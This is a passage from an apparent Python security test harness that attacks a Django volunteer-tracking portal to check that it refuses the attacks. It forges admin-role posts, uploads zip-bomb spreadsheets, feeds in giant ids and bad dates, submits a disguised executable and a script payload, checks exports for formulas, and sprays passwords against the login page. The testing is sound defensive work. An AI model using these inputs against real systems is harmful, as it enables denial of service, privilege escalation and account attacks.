                data, uploads = form_data(forms[0], (forms[0].submits() or [None])[0]) if forms else ([], [])
                if kind == "delete":
                    data = [("post", "yes")]
                if kind == "version":
                    data = data or model_data(model, obj.pk)
                    # Posting a version back is refused to everyone, the record's own institution included.
                    mine = [p for p in site_users if p.institution == obj.institution]
                    forgeries += [Forgery(p, url, data, uploads, WRITES_ADMIN, "(history version, own institution)",
                                          expect_status=403) for p in mine]
                    forgeries.append(Forgery(attack.persona("admin"), url, data, uploads, WRITES_ADMIN,
                                             "(history version, administrator)", expect_status=403))
                    RESULTS.count(WRITES_ADMIN, "history versions posted back", len(mine) + 1)
                forgeries += [Forgery(p, url, data, uploads, WRITES_ADMIN, f"({kind})") for p in attackers]
        for persona in site_users:
            with contextlib.suppress(NoReverseMatch):
                add = reverse(f"{admin_info(model)}_add")
                status, forms = page_forms(attack.browser(persona.username), add, add)
                for form in forms[:1]:
                    for data, uploads, label in swaps(persona, form):
                        forgeries.append(Forgery(persona, add, data, uploads, WRITES_ADMIN, "(add) " + label,
                                                 denied=False))
    # The issue's exploit: staff post their own profile's history version with role=admin.
    for persona in attack.attackers:
        user = get_user_model().objects.get(username=persona.username)
        profile = Profile.objects.get(user=user)
        version = profile.history.order_by("history_id").first()
        data = [("user", str(user.pk)), ("role", "admin"), ("institution", str(persona.institution or "")),
                ("unit", str(persona.unit or "")), ("_save", "保存")]
        for url in (reverse("admin:tracker_profile_simple_history", args=[profile.pk, version.history_id]),
                    reverse("admin:tracker_profile_change", args=[profile.pk])):
            forgeries.append(Forgery(persona, url, data, [], WRITES_ADMIN, "(role=admin on her own profile)"))
            RESULTS.count(WRITES_ADMIN, "role=admin attempts")
    with timed("writes"):
        for forgery in forgeries:
            forge(attack, forgery)
    roles = dict(Profile.objects.filter(user__username__in=[p.username for p in attack.attackers])
                 .values_list("user__username", "role"))
    promoted = [name for name in roles if roles[name] == "admin" or get_user_model().objects.get(
        username=name).is_superuser]
    if promoted:
        RESULTS.fail(Finding(WRITES_ADMIN, ", ".join(promoted), "POST", "/admin/tracker/profile/…",
                             "became administrator"))


def model_data(model, pk: int) -> list[tuple[str, str]]:
    """A record's fields as form data (for a history version, whose page shows them read-only)."""
    from django.forms.models import model_to_dict

    values = model_to_dict(model._default_manager.get(pk=pk))
    data = []
    for key, value in values.items():
        if isinstance(value, list):
            data += [(key, str(getattr(v, "pk", v))) for v in value]
        elif value is not None and not hasattr(value, "read"):
            data.append((key, str(getattr(value, "pk", value))))
    return data


# --- 2b. Records made through the portal's own forms -------------------------------------------------------------
# Hostile text for the exports (as the secretary and the staff would type it), and the records the demo has none
# of, or only for 中国矿业大学 (a snapshot, an institution's own standard, a roster import awaiting confirmation,
# 苏州大学's round, assessment, rectification and review), so that both sides have them to attack.

SEED = "seed through the forms"


def fill_and_post(attack: Attack, username: str, page: str, values: dict[str, str | list[str]],
                  action: str | None = None, uploads: list | None = None, what: str = "") -> requests.Response | None:
    """Open the page as the persona, fill its form (values given, required fields made plausible), post it."""
    browser = attack.browser(username)
    status, forms = page_forms(browser, page, action or page)
    if not forms:
        RESULTS.fail(Finding(SEED, attack.persona(username).label, "GET", page, f"no form to {what}", status))
        return None
    form = forms[-1]
    data, files = form_data(form, (form.submits() or [None])[0], files=False)
    for name, value in values.items():
        data = with_value(data, name, value if isinstance(value, list) else [value])
    response = browser.post(form.action, data, files=uploads or None, category=SEED)
    RESULTS.count(SEED, "requests")
    RESULTS.count(SEED, f"{response.status_code // 100}xx")
    if response.status_code not in (200, 302) or (response.status_code == 200 and not uploads):
        RESULTS.fail(Finding(SEED, attack.persona(username).label, "POST", form.action, f"could not {what}",
                             response.status_code, show_data(data), describe(response)))
        return None
    return response


def first_option(attack: Attack, username: str, page: str, name: str) -> str:
    _status, forms = page_forms(attack.browser(username), page, page)
    for form in forms:
        for control in form.controls:
            if control.name == name:
                values = [v for v, _s in control.options if v] or ([control.value] if control.value else [])
                if values:
                    return values[0]
    return ""


def roster_workbook(rows: list[list]) -> bytes:
    from openpyxl import Workbook

    from tracker.roster import xlsx as roster_xlsx

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(roster_xlsx.SHEET_TITLE)
    headers = [column.header for column in roster_xlsx.COLUMNS]
    sheet.append(headers)
    for row in rows:
        sheet.append([row.get(header) for header in headers] if isinstance(row, dict) else row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def standard_workbook(rows: list[tuple]) -> bytes:
    from openpyxl import Workbook

    from tracker.assessments import xlsx as standards_xlsx

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = standards_xlsx.SHEET_TITLE
    sheet.append(list(standards_xlsx.HEADERS))
    for row in rows:
        sheet.append(list(row))
        for cell in sheet[sheet.max_row]:
            if isinstance(cell.value, str):  # text typed as '=…: a text cell, as Excel stores it
                cell.data_type, cell.quotePrefix = "s", True
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


HOSTILE_STANDARD = [("1", "领导机制", HOSTILE_TEXTS[0], HOSTILE_TEXTS[1], 10, "全有全无"),
                    ("2", "工作机制", HOSTILE_TEXTS[2], "", 5, "全有全无")]


def import_standard(attack: Attack, username: str, name: str) -> None:
    """The staff's standards import: upload, check, confirm."""
    browser = attack.browser(username)
    upload = [("file", ("基本要求.xlsx", standard_workbook(HOSTILE_STANDARD), XLSX_TYPE))]
    response = fill_and_post(attack, username, "/standards/import/",
                             {"name": name, "level": "college", "source_document": HOSTILE_TEXTS[1]},
                             uploads=upload, what="check a standard")
    if response is None:
        return
    confirm = [f for f in forms_of(response.text, "/standards/import/") if f.action.endswith("/confirm/")]
    if response.status_code != 200 or not confirm:
        RESULTS.fail(Finding(SEED, attack.persona(username).label, "POST", "/standards/import/",
                             "the standard's check did not offer a confirmation", response.status_code,
                             response=describe(response)))
        return
    data, _files = form_data(confirm[0], (confirm[0].submits() or [None])[0])
    answer = browser.post(confirm[0].action, data, category=SEED)
    RESULTS.count(SEED, "requests")
    if answer.status_code != 302:
        RESULTS.fail(Finding(SEED, attack.persona(username).label, "POST", confirm[0].action,
                             "the standard was not imported", answer.status_code, response=describe(answer)))


def phase_seed(attack: Attack) -> None:
    import datetime as dt

    from django.utils import timezone

    from tracker import models as m

    soon = f"{timezone.localdate() + dt.timedelta(days=3):%Y-%m-%d}"  # on the dashboard's "due soon" list
    sides = (("cumt", "secretary", "staff"), ("suda", "suda_secretary", "suda_staff"))
    before = attack.fingerprint.take()
    with timed(SEED):
        for side, secretary, staff in sides:
            unit = m.OrgUnit.objects.get(pk=attack.persona(secretary).unit)
            fill_and_post(attack, secretary, "/roster/new/",
                          {"unit": str(unit.pk), "staff_number": f"H{side}1", "name": HOSTILE_TEXTS[0],
                           "former_post": HOSTILE_TEXTS[1], "former_unit": HOSTILE_TEXTS[2], "phone": "13800000000"},
                          what="add a volunteer with formula text")
            fill_and_post(attack, secretary, "/ledger/new/",
                          {"unit": str(unit.pk), "date": PLAUSIBLE_DAY, "title": HOSTILE_TEXTS[0],
                           "notes": HOSTILE_TEXTS[1]}, what="add a ledger entry with formula text")
            fill_and_post(attack, secretary, "/platforms/new/",
                          {"owner": str(unit.pk), "level": "college", "name": HOSTILE_TEXTS[2],
                           "description": HOSTILE_TEXTS[0]}, what="add a platform with formula text")
            # A roster import waiting for its confirmation (its page is attacked too).
            upload = [("file", ("花名册.xlsx", roster_workbook([{"工号": f"R{side}1", "姓名": "导入测试",
                                                                 "所在单位": unit.name}]), XLSX_TYPE))]
            fill_and_post(attack, secretary, "/roster/import/", {}, uploads=upload, what="upload a roster")
            fill_and_post(attack, staff, "/rectifications/new/",
                          {"unit": str(unit.pk), "problem": HOSTILE_TEXTS[0], "measure": HOSTILE_TEXTS[1],
                           "deadline": soon}, what="add a rectification with formula text")
        # 苏州大学 has no round, assessment or review in the demo: its staff and secretary make them.
        standard = first_option(attack, "suda_staff", "/assessments/rounds/new/", "standard")
        fill_and_post(attack, "suda_staff", "/assessments/rounds/new/",
                      {"name": "2024年二级关工委对标找差", "standard": standard, "due_on": "2030-06-30"},
                      what="open a round")
        suda_round = m.AssessmentRound.objects.filter(institution__code="suda").order_by("pk").last()
        if suda_round is not None:
            fill_and_post(attack, "suda_secretary", "/assessments/", {},
                          action=f"/assessments/rounds/{suda_round.pk}/start/", what="start an assessment")
            fill_and_post(attack, "suda_staff", "/reviews/new/", {"name": "2024年片区评议"}, what="open a review")
        for side, _secretary, staff in sides:
            fill_and_post(attack, staff, "/dashboard/snapshots/", {"name": HOSTILE_TEXTS[0]},
                          what="freeze a snapshot named with formula text")
            import_standard(attack, staff, f"{side}自定标准")
    # The fingerprint itself: the records just made must show in it (one that saw nothing would pass everything).
    changed = Fingerprint.changes(before, attack.fingerprint.take())
    RESULTS.note(SEED, "tables changed by the records made: " + ", ".join(changed))
    if not any(t.startswith("tracker_volunteer") for t in changed):
        RESULTS.fail(Finding(SEED, "", "", "", "the database fingerprint did not see the records made"))
    plant_markers_on_new()


def plant_markers_on_new() -> None:
    """The records made through the forms get their markers too (those already marked keep theirs)."""
    from django.apps import apps
    from django.db.models import CharField, F, Value
    from django.db.models.functions import Cast, Concat, LPad

    apps.get_model("tracker.Volunteer")._default_manager.exclude(phone__startswith="139").update(
        phone=Concat(Value("139"), LPad(Cast("pk", CharField()), 8, Value("0")), output_field=CharField()))

    for kind, label, name in MARKED_FIELDS:
        model = apps.get_model(label)
        model._default_manager.exclude(**{f"{name}__contains": "〔"}).update(
            **{name: Concat(F(name), Value(f"〔{kind}"), Cast("pk", CharField()), Value("〕"),
                            output_field=CharField())})


# --- 6. Bad inputs ----------------------------------------------------------------------------------------------

BAD = "bad inputs"
SHEET_START = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
               b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')


def rewritten(content: bytes, part: str, pieces: Callable[[], Iterable[bytes]]) -> bytes:
    """A copy of the workbook with one part replaced by what `pieces` yields, deflated as it is written."""
    source = zipfile.ZipFile(io.BytesIO(content))
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != part:
                target.writestr(info.filename, source.read(info))
        with target.open(part, "w", force_zip64=True) as stream:
            for piece in pieces():
                stream.write(piece)
    return output.getvalue()


def with_strings_part(content: bytes) -> bytes:
    """Declare a shared-strings part in the workbook's content types (a write-only workbook has none)."""
    types = zipfile.ZipFile(io.BytesIO(content)).read("[Content_Types].xml")
    override = (b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    return rewritten(content, "[Content_Types].xml", lambda: [types.replace(b"</Types>", override)])


def bombs() -> dict[str, bytes]:
    """The issue's hostile workbooks, each a small upload: 8 million blank rows; a 300 MB shared string; 20,001
    people (a real roster, one row too many)."""
    header = roster_workbook([])

    def blank_rows() -> Iterator[bytes]:
        yield SHEET_START + b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>ID</t></is></c></row>'
        chunk = b'<row ht="15" customHeight="1"/>' * 200_000
        for _ in range(8_000_000 // 200_000):
            yield chunk
        yield b"</sheetData></worksheet>"

    def huge_string() -> Iterator[bytes]:
        yield (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="http://schemas.openxmlformats'
               b'.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>')
        chunk = "关".encode() * (1024 * 1024 // 3)
        for _ in range(300):
            yield chunk
        yield b"</t></si></sst>"

    people = [[f"B{n:06d}", f"志愿者{n}", "机电工程学院"] for n in range(20_001)]
    return {
        "8,000,000 blank rows": rewritten(header, "xl/worksheets/sheet1.xml", blank_rows),
        "a 300 MB shared string": rewritten(with_strings_part(header), "xl/sharedStrings.xml", huge_string),
        "20,001 rows": roster_workbook(people),
    }


def refused(attack: Attack, persona: Persona, method: str, path: str, response: requests.Response, what: str,
            before: dict, *, must_refuse: bool = True) -> None:
    """A bad input: never a 5xx, and nothing stored (a POST must be refused; a GET changes nothing anyway)."""
    RESULTS.count(BAD, "requests")
    RESULTS.count(BAD, f"{response.status_code // 100}xx")
    where = dict(category=BAD, persona=persona.label, method=method, url=path, status=response.status_code,
                 response=describe(response))
    after = attack.fingerprint.take()
    attack.last_print = after
    changed = Fingerprint.changes(before, after)
    if response.status_code >= 500:
        RESULTS.fail(Finding(what="server error: " + what, **where))
    elif changed:
        RESULTS.count(BAD, "changes")
        RESULTS.fail(Finding(what=f"accepted {what}: " + ", ".join(changed), **where))
    elif must_refuse:
        RESULTS.count(BAD, "refused")


def phase_bad_inputs(attack: Attack, objects: dict[str, list[AdminObject]]) -> None:
    from django.urls import reverse

    from tracker import models as m

    secretary, staff, admin = attack.persona("secretary"), attack.persona("staff"), attack.persona("admin")
    attack.last_print = attack.fingerprint.take()
    # Zip bombs and too many rows, on the roster import (secretary) and the standards import (staff).
    started = time.perf_counter()
    files = bombs()
    RESULTS.note(BAD, f"hostile workbooks built in {time.perf_counter() - started:.1f} s: " + ", ".join(
        f"{name} {len(content) / 1024:,.0f} KB zipped" for name, content in files.items()))
    for name, content in files.items():
        for persona, page, values in ((secretary, "/roster/import/", {}),
                                      (staff, "/standards/import/", {"name": "炸弹标准", "level": "college",
                                                                      "source_document": "测试"})):
            browser = attack.browser(persona.username)
            _s, forms = page_forms(browser, page, page)
            data, _f = form_data(forms[0], None, files=False) if forms else ([], [])
            for key, value in values.items():
                data = with_value(data, key, [value])
            before = attack.last_print
            response = browser.post(page, data, files=[("file", ("花名册.xlsx", content, XLSX_TYPE))], category=BAD)
            seconds = response.elapsed_seconds
            RESULTS.tally("bomb refusal").latencies.append(seconds)
            RESULTS.note(BAD, f"{name} → {page}: {response.status_code} in {seconds:.2f} s: "
                              + describe(response)[:160])
            refused(attack, persona, "POST", page, response, name, before)
            if response.status_code != 400 or seconds >= BOMB_SECONDS:
                RESULTS.fail(Finding(BAD, persona.label, "POST", page,
                                     f"{name} not refused with 400 within {BOMB_SECONDS:g} s ({seconds:.2f} s)",
                                     response.status_code, response=describe(response)))
    # A date of year 1 in the roster file's "起始日期" column (the import's own reading of dates).
    unit_name = m.OrgUnit.objects.get(pk=secretary.unit).name
    content = roster_workbook([{"工号": "D0001", "姓名": "日期测试", "所在单位": unit_name, "起始日期": ANCIENT_DAY}])
    before = attack.last_print
    response = attack.browser("secretary").post("/roster/import/", [], category=BAD,
                                                files=[("file", ("花名册.xlsx", content, XLSX_TYPE))])
    refused(attack, secretary, "POST", "/roster/import/", response, "a date of year 1 in the roster file", before)
    RESULTS.count(BAD, "year-1 dates")
    confirm = [f for f in forms_of(response.text, "/roster/import/") if f.action.endswith("/confirm/")]
    if response.status_code == 200 and confirm:
        # The check let it through: does the confirmation save the person with that date?
        answer = attack.browser("secretary").post(confirm[0].action, form_data(confirm[0], None)[0], category=BAD)
        attack.last_print = attack.fingerprint.take()
        saved = m.Volunteer.objects.filter(staff_number="D0001", active_from__year=1).values_list("pk", flat=True)
        RESULTS.note(BAD, f"roster file with 起始日期 {ANCIENT_DAY}: checked 200, confirmed {answer.status_code}"
                     + (f", volunteer {saved[0]} saved with active_from {ANCIENT_DAY}" if saved else ""))
        if saved:
            RESULTS.fail(Finding(BAD, secretary.label, "POST", confirm[0].action,
                                 f"the roster import saved volunteer {saved[0]} with 起始日期 {ANCIENT_DAY}",
                                 answer.status_code, "the file checked at /roster/import/ (200), then confirmed",
                                 describe(answer)))
    else:
        RESULTS.note(BAD, f"roster file with 起始日期 {ANCIENT_DAY}: {response.status_code}: "
                     + describe(response)[:120])
    # Ids too long for the database, in every URL that takes one (and in query strings and forms).
    asks = []
    for pattern in tracker_patterns():
        converters = pattern.pattern.converters
        if not converters:
            continue
        for index in range(len(converters)):
            real = spread(attack.catalog.targets.get(pattern.name, []), 1)
            args = list(real[0].args) if real else [1] * len(converters)
            args[index] = SENTINEL_ID  # the URL's converter takes at most 18 digits: the longer id is put in after
            path = reverse(f"tracker:{pattern.name}", args=args).replace(str(SENTINEL_ID), HUGE_ID)
            asks += [(p, "GET", path) for p in (staff, admin)]
            if takes_post(attack, pattern.name):
                asks += [(p, "POST", path) for p in (staff, admin)]
    for model in admin_models():
        info = admin_info(model)
        mine = objects[model._meta.label][:1]
        pk = mine[0].pk if mine else 1
        for kind in ("change", "delete", "history"):
            url = reverse(f"{info}_{kind}", args=[SENTINEL_ID]).replace(str(SENTINEL_ID), HUGE_ID)
            asks += [(admin, "GET", url), (staff, "GET", url)]
        if mine and mine[0].history_id is not None:
            url = reverse(f"{info}_simple_history", args=[pk, SENTINEL_ID]).replace(str(SENTINEL_ID), HUGE_ID)
            asks += [(admin, "GET", url), (staff, "GET", url)]
    for _name, path in plain_paths():
        query = urlencode({key: HUGE_ID for key in ("institution", "unit", "platform", "volunteer", "page")})
        asks += [(p, "GET", f"{path}?{query}") for p in (staff, admin)]
    for persona, method, path in asks:
        browser = attack.browser(persona.username)
        before = attack.last_print
        response = browser.post(path, []) if method == "POST" else browser.get(path, category=BAD)
        refused(attack, persona, method, path, response, "an id of 20 digits", before, must_refuse=method == "POST")
        RESULTS.count(BAD, "huge ids")
    # Huge ids and dates of year 1 in the fields of every form staff and the secretary fill in.
    for persona in (staff, secretary):
        browser = attack.browser(persona.username)
        pages = [(path, path) for name, path in plain_paths() if takes_post(attack, name) and name not in NOT_ATTACKED]
        for name in ("volunteer-update", "activity-update", "rectification-reassign", "review-step",
                     "task-update-create", "team-membership-add"):
            for target in spread([t for t in attack.catalog.targets.get(name, [])
                                  if t.institution == persona.institution and t.unit in (None, persona.unit)], 1):
                pages.append((page_for(name, target.args), target.path))
        for page, action in pages:
            _status, forms = page_forms(browser, page, action)
            for form in forms[:1]:
                base, _u = form_data(form, (form.submits() or [None])[0], files=False)
                changed_fields = []
                for control in form.controls:
                    if control.disabled:
                        continue  # a disabled field's value is not taken from the request
                    if control.type == "date" or control.name in ("as_of", "deadline"):
                        changed_fields.append((control.name, ANCIENT_DAY, "a date of year 1"))
                    elif FIELD_MODELS.get(control.name) and names_record(control):
                        changed_fields.append((control.name, HUGE_ID, "an id of 20 digits"))
                for field_name, value, what in dict.fromkeys(changed_fields):
                    before = attack.last_print
                    response = browser.post(action, with_value(base, field_name, [value]), category=BAD)
                    refused(attack, persona, "POST", action, response, f"{what} in “{field_name}”", before)
                    RESULTS.count(BAD, "year-1 dates" if value == ANCIENT_DAY else "huge ids")
                    if field_name in ("deadline", "as_of"):
                        RESULTS.note(BAD, f"{field_name}={value} → {action}: {response.status_code}")
    # The dashboard's "as of" (a GET form): the page refuses year 1 (400); the export falls back to today.
    for path in ("/dashboard/", "/dashboard/tables.xlsx"):
        response = attack.browser("staff").get(f"{path}?as_of={ANCIENT_DAY}", category=BAD)
        refused(attack, staff, "GET", f"{path}?as_of={ANCIENT_DAY}", response, "a date of year 1",
                attack.last_print, must_refuse=False)
        RESULTS.count(BAD, "year-1 dates")
        shows_year_1 = response.status_code == 200 and "截至 0001-01-01" in body_text(response)
        RESULTS.note(BAD, f"GET {path}?as_of={ANCIENT_DAY}: {response.status_code}"
                     + (" (today's figures)" if response.status_code == 200 and not shows_year_1 else ""))
        if (path == "/dashboard/" and response.status_code != 400) or shows_year_1:
            RESULTS.fail(Finding(BAD, staff.label, "GET", f"{path}?as_of={ANCIENT_DAY}",
                                 "a date of year 1 not refused", response.status_code, response=describe(response)))
    # Evidence: one byte over the limit, and a program named .pdf.
    from django.conf import settings

    task = spread([t for t in attack.catalog.targets["task-update-create"] if t.institution == staff.institution], 1)
    oversized = PDF + b"\n%" + b"0" * (settings.EVIDENCE_MAX_BYTES - len(PDF))
    wrong_type = b"MZ\x90\x00\x03" + b"\x00" * 4000 + b"This program cannot be run in DOS mode."
    for target in task:
        _s, forms = page_forms(attack.browser("staff"), page_for("task-update-create", target.args), target.path)
        for label, content, filename in (("an oversized file", oversized, "报告.pdf"),
                                         ("a program named .pdf", wrong_type, "报告.pdf"),
                                         ("a web page named .docx", b"<html><script>alert(1)</script></html>",
                                          "报告.docx")):
            data, _u = form_data(forms[0], None, files=False) if forms else ([], [])
            data = with_value(data, "note", [f"附件测试：{label}"])
            before = attack.last_print
            response = attack.browser("staff").post(target.path, data, category=BAD,
                                                    files=[("files", (filename, content, "application/pdf"))])
            refused(attack, staff, "POST", target.path, response, label, before)
            RESULTS.count(BAD, "hostile evidence")
            RESULTS.note(BAD, f"evidence, {label} ({len(content):,} bytes): {response.status_code}")
    del m


# --- 7. Exports --------------------------------------------------------------------------------------------------

EXPORTS = "exports"


def phase_exports(attack: Attack) -> None:
    """Every xlsx export, downloaded by the secretary and the staff of both universities: no cell may be a
    formula, and the formula-like text typed through the forms must be there, as text."""
    from openpyxl import load_workbook

    from tracker import models as m

    downloads = []
    for side, secretary, staff in (("cumt", "secretary", "staff"), ("suda", "suda_secretary", "suda_staff")):
        plan = m.Plan.objects.filter(institution__code=side).order_by("pk").first()
        standard = m.Standard.objects.filter(institution__code=side).order_by("pk").last()
        snapshot = m.ReportSnapshot.objects.filter(institution__code=side).order_by("pk").last()
        downloads += [(secretary, "/roster/export.xlsx", "roster", True),
                      (secretary, "/ledger/export/", "ledger", True), (staff, "/roster/export.xlsx", "roster", True),
                      (staff, "/ledger/export/", "ledger", True),
                      (staff, "/dashboard/tables.xlsx", "dashboard", True),
                      (staff, "/roster/template.xlsx", "roster template", False)]
        if plan:
            downloads.append((staff, f"/plans/{plan.pk}/export.xlsx", "task table", False))
        if standard:
            downloads.append((staff, f"/standards/{standard.pk}/export.xlsx", "standard", True))
        if snapshot:
            downloads.append((staff, f"/dashboard/snapshots/{snapshot.pk}/tables.xlsx", "snapshot", True))
    with timed(EXPORTS):
        for username, path, kind, must_hold in downloads:
            persona = attack.persona(username)
            response = attack.browser(username).get(path, category=EXPORTS)
            RESULTS.count(EXPORTS, "requests")
            RESULTS.count(EXPORTS, f"{response.status_code // 100}xx")
            if response.status_code != 200:
                RESULTS.fail(Finding(EXPORTS, persona.label, "GET", path, f"the {kind} export did not download",
                                     response.status_code, response=describe(response)))
                continue
            workbook = load_workbook(io.BytesIO(response.content))
            formulas, texts, cells = [], [], 0
            for sheet in workbook.worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        if cell.value is None:
                            continue
                        cells += 1
                        if cell.data_type == "f":
                            formulas.append(f"{sheet.title}!{cell.coordinate}={cell.value}")
                        elif isinstance(cell.value, str):
                            texts.append(cell.value)
            found = [h for h in HOSTILE_TEXTS if any(h in text for text in texts)]
            RESULTS.count(EXPORTS, "workbooks")
            RESULTS.count(EXPORTS, "cells", cells)
            RESULTS.note(EXPORTS, f"{persona.username} {kind}: {cells:,} cells, {len(formulas)} formulas, "
                                  f"formula-like texts present: {len(found)} of {len(HOSTILE_TEXTS)}")
            if formulas:
                RESULTS.count(EXPORTS, "formula cells", len(formulas))
                RESULTS.fail(Finding(EXPORTS, persona.label, "GET", path, f"the {kind} export has formulas: "
                                     + ", ".join(formulas[:5]), 200))
            if must_hold and not found:
                RESULTS.fail(Finding(EXPORTS, persona.label, "GET", path,
                                     f"the {kind} export lacks the text typed through the forms", 200))
            RESULTS.count(EXPORTS, "formula-like texts found", len(found))


# --- 8. Password spraying and the sign-in rate -----------------------------------------------------------------

SPRAY = "password spraying"
RATE = "sign-in rate"
WORKERS = 2  # gunicorn workers of the attacked server
CJK = re.compile(r"[\u4e00-\u9fff]")


def chinese_page(html: str) -> bool:
    """The 429 page says it in Chinese: the page's language, Chinese text, and none of the English msgid."""
    section = re.search(r'<section[^>]*id="too-many".*?</section>', html, re.S)
    text = re.sub(r"<[^>]+>", " ", section.group(0)) if section else ""
    return 'lang="zh-hans"' in html and len(CJK.findall(text)) > 20 and "Too many" not in text


def phase_spray(attack: Attack, users: list[str]) -> None:
    """From one address: SPRAY_TRIES wrong passwords for each of the throwaway accounts, as a browser would post
    them. The address is stopped (429, in Chinese) long before the 200th try."""
    sprayer = Browser(attack.base, Persona("sprayer", "anonymous", None, None, ""))
    sprayer.get("/accounts/login/")
    first_429 = None
    not_chinese = 0
    attempt = 0
    with timed(SPRAY):
        for username in users:
            for n in range(SPRAY_TRIES):
                attempt += 1
                response = sprayer.post("/accounts/login/", {"username": username, "password": f"Spring2024!{n}",
                                                            "next": ""}, category=SPRAY)
                RESULTS.count(SPRAY, "requests")
                RESULTS.count(SPRAY, f"{response.status_code // 100}xx")
                if response.status_code == 302:
                    RESULTS.fail(Finding(SPRAY, "sprayer", "POST", "/accounts/login/", "a wrong password signed in",
                                         302, f"username={username}"))
                if response.status_code == 429:
                    RESULTS.count(SPRAY, "answered 429")
                    first_429 = first_429 or attempt
                    if not chinese_page(response.text):
                        not_chinese += 1
    RESULTS.note(SPRAY, f"{attempt} attempts; the first 429 came at attempt {first_429}; "
                        f"{RESULTS.tally(SPRAY).counts['answered 429']} answered 429")
    if first_429 is None or first_429 > 60:
        RESULTS.fail(Finding(SPRAY, "sprayer", "POST", "/accounts/login/",
                             f"the address was not stopped early (first 429 at attempt {first_429})"))
    if not_chinese:
        RESULTS.fail(Finding(SPRAY, "sprayer", "POST", "/accounts/login/",
                             f"{not_chinese} 429 page(s) not in Chinese"))


def phase_rate(attack: Attack, username: str, password: str, port: int) -> None:
    """SIGNIN_RATE (sign-in posts per address and minute), from a second loopback address: a burst of right
    passwords, all inside one of django-ratelimit's windows (its own window function says when the next starts).
    Every post past the limit must be a 429, whichever gunicorn worker answers it."""
    from http.cookies import SimpleCookie

    from django.conf import settings
    from django_ratelimit.core import _get_window, _split_rate

    limit, period = _split_rate(settings.SIGNIN_RATE)
    burst = limit + limit // 2
    left = _get_window(SECOND_ADDRESS, period) - time.time()
    if left < 25:
        time.sleep(left + 1)

    def call(method: str, body: str = "", cookie: str = "") -> tuple[int, str, str]:
        connection = http.client.HTTPConnection(HOST, port, timeout=60, source_address=(SECOND_ADDRESS, 0))
        try:
            headers = {"Cookie": cookie, "Content-Type": "application/x-www-form-urlencoded"}
            connection.request(method, "/accounts/login/", body=body, headers=headers)
            response = connection.getresponse()
            return response.status, response.getheader("Set-Cookie", ""), response.read().decode("utf-8", "replace")
        finally:
            connection.close()

    _status, set_cookie, _body = call("GET")
    token = SimpleCookie(set_cookie)["csrftoken"].value
    body = urlencode({"username": username, "password": password, "csrfmiddlewaretoken": token, "next": ""})
    started = time.perf_counter()
    with timed(RATE), ThreadPoolExecutor(4) as pool:
        statuses = list(pool.map(lambda _n: call("POST", body, f"csrftoken={token}")[0], range(burst)))
    seconds = time.perf_counter() - started
    counts = Counter(statuses)
    RESULTS.count(RATE, "requests", burst)
    for status, n in counts.items():
        RESULTS.count(RATE, f"{status // 100}xx", n)
    RESULTS.count(RATE, "answered 429", counts[429])
    RESULTS.note(RATE, f"{burst} right-password sign-ins from {SECOND_ADDRESS} in {seconds:.1f} s (one window of "
                       f"{period} s, limit {limit}): " + ", ".join(f"{n}× {s}" for s, n in sorted(counts.items()))
                       + f"; cache backend {settings.CACHES['default']['BACKEND']}")
    # Redis counts with one atomic INCR. The file cache (the production default on one server) reads and writes
    # the count, so two workers answering at the same instant may both count one: at most one post per worker more.
    backend = settings.CACHES["default"]["BACKEND"]
    slack = 0 if backend.endswith("RedisCache") else WORKERS
    if counts[429] < burst - limit - slack:
        RESULTS.fail(Finding(RATE, f"anonymous from {SECOND_ADDRESS}", "POST", "/accounts/login/",
                             f"only {counts[429]} of {burst} sign-in posts in one minute answered 429 (limit "
                             f"{settings.SIGNIN_RATE}, {slack} more allowed for {backend}): the count is not shared "
                             f"by the gunicorn workers", request=f"{burst} posts of username={username}"))


def report_findings() -> None:
    """Every failed check, those of one kind on one URL pattern together (ids and queries left out)."""
    groups: dict[tuple, list[Finding]] = defaultdict(list)
    for finding in RESULTS.findings:
        pattern = re.sub(r"\d+", "N", finding.url.split("?")[0])
        groups[(finding.category, re.sub(r"〔\w+〕|\d+", "", finding.what)[:60], pattern)].append(finding)
    if groups:
        say(f"\n{len(RESULTS.findings)} failed check(s), {len(groups)} kind(s):")
    for (_category, _what, pattern), findings in groups.items():
        say(findings[0].render())
        if len(findings) > 1:
            personas = sorted({f.persona.split(" ")[0] for f in findings})
            say(f"  … and {len(findings) - 1} more like it on {pattern} (personas: {', '.join(personas)})")


def deploy_check(env: dict[str, str]) -> None:
    """`manage.py check --deploy --fail-level WARNING` with the production settings as deployed (https on)."""
    production = {k: v for k, v in env.items() if k not in ("DJANGO_SECURE_SSL_REDIRECT", "DJANGO_SECURE_COOKIES")}
    result = subprocess.run([sys.executable, str(ROOT / "manage.py"), "check", "--deploy", "--fail-level", "WARNING"],
                            cwd=ROOT, env=production, capture_output=True, text=True)
    RESULTS.count("check --deploy", "runs")
    RESULTS.note("check --deploy", (result.stdout + result.stderr).strip().splitlines()[-1:][0]
                 if (result.stdout + result.stderr).strip() else "no output")
    if result.returncode != 0:
        RESULTS.fail(Finding("check --deploy", "", "", "manage.py check --deploy --fail-level WARNING",
                             "not clean: " + (result.stdout + result.stderr).strip()[-600:]))


# --- The summary ------------------------------------------------------------------------------------------------


def percentile(values: list[float], share: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(share * len(ordered)))] if ordered else float("nan")


def summary(total_seconds: float) -> str:
    lines = ["", "| category | requests | 2xx | 3xx | 4xx | 5xx | leaks / changes | failed | median ms | p95 ms | "
             "notes |", "|---|--:|--:|--:|--:|--:|--:|--:|--:|--:|---|"]
    others = []
    for tally in RESULTS.tallies.values():
        c = tally.counts
        latencies = tally.latencies
        if not c["requests"] and not c["failed"]:
            if c or latencies:
                others.append(f"{tally.name}: " + ", ".join([f"{k} {v:,}" for k, v in c.items()] + (
